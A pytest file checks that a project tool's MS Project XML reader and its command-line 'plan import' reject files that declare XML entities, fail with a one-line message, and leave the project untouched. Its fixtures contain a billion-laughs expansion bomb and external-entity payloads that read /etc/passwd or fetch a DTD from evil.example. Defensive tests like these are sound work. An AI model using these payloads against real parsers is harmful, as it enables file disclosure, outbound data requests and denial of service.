"""MS Project XML that declares entities (billion laughs, external files) is refused with one clear line
naming the file, in the reader and on the command line, and the project is left as it was."""

from __future__ import annotations

import pytest

from clusterdesk.cli.main import main
from clusterdesk.core.project import Project
from clusterdesk.io.plan_mspdi_reader import read_mspdi
from clusterdesk.io.plan_records import PlanFileError

TASKS = "<Tasks><Task><UID>1</UID><Name>&x;</Name><OutlineLevel>1</OutlineLevel></Task></Tasks></Project>"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10))
HOSTILE = {
    "laughs.xml": f'<!DOCTYPE Project [{LAUGHS}<!ENTITY x "&l9;">]>',
    "secrets.xml": '<!DOCTYPE Project [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "remote.xml": '<!DOCTYPE Project [<!ENTITY x SYSTEM "http://evil.example/plan.dtd">]>',
}
PROJECT = "<Project xmlns='http://schemas.microsoft.com/project'>"


def _write(folder, name: str):
    path = folder / name
    path.write_text(f"<?xml version='1.0'?>\n{HOSTILE[name]}\n{PROJECT}{TASKS}", encoding="utf-8")
    return path


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_entity_declarations_are_refused_naming_the_file(tmp_path, name):
    with pytest.raises(PlanFileError) as refused:
        read_mspdi(_write(tmp_path, name))
    message = str(refused.value)
    assert message.startswith(f"{name}: refused: the file declares XML entities") and "\n" not in message


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_plan_import_refuses_them_in_one_line_without_a_traceback(tmp_path, capsys, name):
    project = Project.new(tmp_path / "cluster.gpkg", "Cluster", country="EC")
    project.save()
    project.close()
    before = (tmp_path / "cluster.gpkg").read_bytes()
    assert main(["plan", "import", str(tmp_path / "cluster.gpkg"), str(_write(tmp_path, name))]) == 1
    captured = capsys.readouterr()
    assert captured.err.startswith(f"clusterdesk: {name}: refused: the file declares XML entities")
    assert captured.err.count("\n") == 1 and "Traceback" not in captured.err
    assert (tmp_path / "cluster.gpkg").read_bytes() == before
